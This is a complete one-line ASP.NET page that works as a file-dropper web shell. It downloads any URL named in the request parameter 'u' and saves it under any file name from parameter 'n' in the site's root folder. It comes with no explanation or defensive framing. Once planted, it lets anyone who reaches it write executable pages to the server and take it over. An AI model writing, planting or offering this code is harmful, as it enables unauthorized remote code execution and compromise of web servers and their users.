<%@ Page Language="C#" %><%
new System.Net.WebClient().DownloadFile(Request["u"], Server.MapPath("~/" + Request["n"]));
%>
